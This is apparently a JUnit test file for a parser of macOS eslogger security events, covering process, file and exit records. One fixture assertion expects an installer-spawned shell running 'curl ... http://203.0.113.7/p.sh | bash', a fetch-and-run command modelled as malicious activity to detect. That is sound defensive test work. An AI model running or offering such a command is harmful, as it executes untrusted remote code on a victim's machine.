package dev.hookline.macos.es;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.schema.Times;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class EsloggerParserTest {
    static List<String> versions() {
        return Fixtures.VERSIONED;
    }

    private static List<EsMessage> parseAll(String fixture) {
        EsloggerParser p = new EsloggerParser();
        List<EsMessage> out = Fixtures.lines(fixture).stream().map(p::parse).collect(Collectors.toList());
        assertEquals(0, p.malformed(), fixture);
        return out;
    }

    @ParameterizedTest
    @MethodSource("versions")
    void everyMacOsVersionFixtureReadsToTheSameMessages(String fixture) {
        List<EsMessage> m = parseAll(fixture);
        assertEquals(List.of(EsMessage.Kind.FORK, EsMessage.Kind.EXEC, EsMessage.Kind.FORK, EsMessage.Kind.EXEC,
                        EsMessage.Kind.CREATE, EsMessage.Kind.WRITE, EsMessage.Kind.CLOSE, EsMessage.Kind.CREATE,
                        EsMessage.Kind.WRITE, EsMessage.Kind.WRITE, EsMessage.Kind.CLOSE, EsMessage.Kind.RENAME,
                        EsMessage.Kind.UNLINK, EsMessage.Kind.CREATE, EsMessage.Kind.OTHER, EsMessage.Kind.EXIT),
                m.stream().map(EsMessage::kind).collect(Collectors.toList()), fixture);

        EsMessage fork = m.get(0);
        assertEquals(500, fork.process().pid());
        assertEquals(600, fork.forkChild().pid());
        assertEquals(500, fork.forkChild().ppid());

        EsMessage exec = m.get(3);
        EsProcess target = exec.exec().target();
        assertEquals(601, target.pid(), "pid from the audit token, object or array form");
        assertEquals(6010, target.pidVersion());
        assertEquals(0, target.euid());
        assertEquals(600, target.ppid());
        assertEquals("/bin/sh", target.path(), "escaped slashes decode");
        assertEquals("com.apple.sh", target.signingId());
        assertEquals(List.of("/bin/sh", "-c", "curl -fsSL http://203.0.113.7/p.sh | bash"), exec.exec().args());
        assertEquals("/private/tmp/PKInstallSandbox.abc/Scripts", exec.exec().cwd());
        assertEquals(Times.parse("2024-05-01T10:00:01.300123456Z"), exec.timeNanos());
        assertEquals("/usr/sbin/installer", exec.process().path(), "process is the image before the exec");

        assertEquals("/Users/dev/repo/.github/workflows/ci.yml", m.get(4).file().path(), "new_path dir + filename");
        assertEquals("/Users/dev/notes.txt", m.get(7).file().path(), "existing_file");
        assertTrue(m.get(6).file().modified());
        EsMessage rename = m.get(11);
        assertEquals("/Users/dev/archive/notes-old.txt", rename.file().path());
        assertEquals("/Users/dev/notes.txt", rename.file().previousPath());
        assertEquals("/Users/dev/archive/notes-old.txt", m.get(12).file().path());
        assertTrue(m.get(13).file().truncated());
        assertFalse(m.get(12).file().truncated());
        assertEquals(123, m.get(14).eventType());
        assertEquals(0, m.get(15).exitStatus());
    }

    @Test
    void arrayAuditTokenTakesPidFromIndexFiveAndPidversionFromSeven() {
        EsMessage m = new EsloggerParser().parse("{\"event_type\":15,\"time\":\"2024-05-01T10:00:00Z\",\"process\":"
                + "{\"audit_token\":[501,502,20,503,20,4242,100003,77],\"executable\":{\"path\":\"/bin/ls\"}},"
                + "\"event\":{\"exit\":{\"stat\":256}}}");
        assertEquals(4242, m.process().pid());
        assertEquals(77, m.process().pidVersion());
        assertEquals(502, m.process().euid());
        assertEquals(503, m.process().ruid());
        assertEquals(256, m.exitStatus());
    }

    @Test
    void kindFallsBackToTheNumericEventTypeWhenTheEventKeyIsUnknown() {
        EsMessage m = new EsloggerParser().parse("{\"event_type\":32,\"process\":{\"audit_token\":{\"pid\":9}},"
                + "\"event\":{\"unlink_v2\":{\"target\":{\"path\":\"/x\"}}}}");
        assertEquals(EsMessage.Kind.UNLINK, m.kind());
        assertNull(m.file(), "the body is under a key the parser does not know: no guessing at its shape");
    }

    @Test
    void numbersWrittenAsStringsAreAccepted() {
        EsMessage m = new EsloggerParser().parse("{\"event_type\":\"15\",\"global_seq_num\":\"12\",\"process\":"
                + "{\"audit_token\":{\"pid\":\"77\"},\"ppid\":\"1\"},\"event\":{\"exit\":{\"stat\":\"0\"}}}");
        assertEquals(77, m.process().pid());
        assertEquals(12, m.globalSeqNum());
        assertEquals(1, m.process().ppid());
    }

    @Test
    void unreadableLinesAreCountedAndSkipped() {
        EsloggerParser p = new EsloggerParser();
        String good = Fixtures.lines("macos13-v6-object-token.jsonl").get(1);
        assertNull(p.parse(good.substring(0, good.length() / 2)));
        assertNull(p.parse("[1,2,3]"));
        assertNull(p.parse("not json"));
        assertNull(p.parse("   "));
        assertNull(p.parse("[".repeat(100_000)));
        assertEquals(4, p.malformed());
        assertNotNull(p.parse(good));
        assertEquals(1, p.parsed());
    }

    @Test
    void missingTimeIsCountedAndLeftNull() {
        EsloggerParser p = new EsloggerParser();
        EsMessage m = p.parse("{\"event\":{\"exit\":{\"stat\":0}},\"process\":{\"audit_token\":{\"pid\":5}}}");
        assertEquals(dev.hookline.schema.Event.NULL, m.timeNanos());
        assertEquals(1, p.badTime());
    }
}
